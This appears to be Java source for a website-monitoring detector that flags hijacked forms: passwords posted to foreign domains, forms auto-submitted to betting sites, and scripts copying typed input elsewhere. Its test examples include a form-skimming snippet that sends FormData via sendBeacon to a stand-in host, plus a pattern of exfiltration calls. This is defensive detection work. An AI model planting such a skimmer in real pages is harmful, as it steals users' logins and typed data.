package vn.vonggac.detector;

import jakarta.inject.Singleton;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import vn.vonggac.detect.Example;
import vn.vonggac.detect.Finding;
import vn.vonggac.detect.Observation;
import vn.vonggac.detect.ScriptOutcome;
import vn.vonggac.detect.ScriptOutcome.Target;
import vn.vonggac.detect.Seen;
import vn.vonggac.detect.Severity;
import vn.vonggac.page.Change;
import vn.vonggac.page.Form;
import vn.vonggac.page.Hosts;
import vn.vonggac.page.Place;
import vn.vonggac.page.Script;

/** A form that sends what people type, worst of all passwords, to a site the portal has nothing to do with, or sends the person. */
@Singleton
final class FormHijackDetector extends StrangerDetector {

    private static final double ELSEWHERE = 0.1;
    private static final double PASSWORD = 0.45;
    private static final double NEW = 0.35;
    private static final double UNASKED = 0.45;
    private static final double COPIED = 0.45;
    private static final Pattern SENDING = Pattern
            .compile("\\b(?:sendBeacon|fetch|ajax|post)\\s*\\(|\\bXMLHttpRequest\\b|\\.src\\s*=");
    private static final int AKIN = 10;
    private static final int MOST_TOKENS = 20_000;

    private final Strangers strangers;

    FormHijackDetector(Strangers strangers) {
        super("form-hijack", Severity.CRITICAL, strangers);
        this.strangers = strangers;
    }

    @Override
    Stream<Part> parts(Seen seen) {
        Set<String> fresh = fresh(seen, Change::addedForms, Form::action);
        boolean unasked = seen.content().forms().stream().anyMatch(Form::outbound)
                && seen.content().scripts().stream().anyMatch(FormHijackDetector::sends);
        return seen.content().forms().stream().map(form -> new Part(form.place(), form.action(),
                (1 - ELSEWHERE) * (form.password() && !akin(seen, form) ? 1 - PASSWORD : 1)
                        * (fresh.contains(form.action()) ? 1 - NEW : 1)
                        * (unasked ? 1 - UNASKED : 1)));
    }

    /** Whether much of the page leads to where the form sends, as on a page that was saved elsewhere. */
    private static boolean akin(Seen seen, Form form) {
        String domain = Hosts.registrable(form.host());
        return seen.content().links().stream().filter(link -> link.domain().equals(domain)).limit(AKIN)
                .count() == AKIN;
    }

    /** A script that gathers what is typed and names a strange address. */
    @Override
    Stream<Finding> more(Observation page, Seen seen) {
        List<Place> gathering = seen.content().scripts().stream().filter(FormHijackDetector::gathers)
                .map(Script::place).toList();
        return seen.scripts().stream().filter(script -> gathering.contains(script.place()))
                .flatMap(script -> script.targets().stream().map(Target::url)
                        .filter(url -> strangers.stranger(url, page)).limit(1)
                        .map(url -> copied(seen, script, url)));
    }

    private Finding copied(Seen seen, ScriptOutcome script, String url) {
        String host = Addresses.host(url);
        double confidence = 1 - (1 - COPIED) * (1 - strangers.risk(url));
        return Finding.of(this, Severity.CRITICAL, confidence, seen.view(), script.place(), url, host)
                .saying("copied").naming(List.of(host));
    }

    private static boolean gathers(Script script) {
        String text = script.text();
        return (text.contains("FormData(") || text.contains(".serialize")) && SENDING.matcher(text).find();
    }

    private static boolean sends(Script script) {
        return ScriptReading.atLoad(script) && script.text().contains("ubmit")
                && ScriptDeferral.submits(ScriptTokens.cut(script.text(), MOST_TOKENS).tokens());
    }

    @Override
    public List<Example> examples() {
        String usual = "<p>Tin</p><form action='/dang-nhap'><input name='u'><input type='password'></form>";
        return List.of(
                Example.raises("password-that-goes-elsewhere",
                        "<p>Tin</p><form action='https://thu.example.net/a.php'><input type='password'></form>")
                        .normally(usual),
                Example.raises("form-that-a-script-sends-to-a-betting-site",
                        "<p>Tin</p><form id='f' action='https://choi88.example.win/'></form>"
                                + "<script>document.getElementById('f').submit()</script>"),
                Example.raises("what-is-typed-is-copied-to-a-strange-site",
                        usual + "<script>document.forms[0].onsubmit=function(){navigator.sendBeacon("
                                + "'https://chep.example.top/c',new FormData(this))}</script>"),
                Example.silent("form-sent-by-a-script-to-the-portal",
                        usual + "<script>document.forms[0].onsubmit=function(){fetch('/gop-y',{method:'POST',"
                                + "body:new FormData(this)})}</script>"),
                Example.silent("search-elsewhere-that-a-person-sends",
                        "<p>Tin</p><form id='f' action='https://thuvien.example.net/'><input name='q'></form>"
                                + "<script>function tim(){document.getElementById('f').submit()}</script>"),
                Example.silent("portal-own-login", usual).normally(usual),
                Example.silent("search-box-of-a-search-engine",
                        "<p>Tin</p><form action='https://www.google.com/search'><input name='q'></form>"));
    }
}
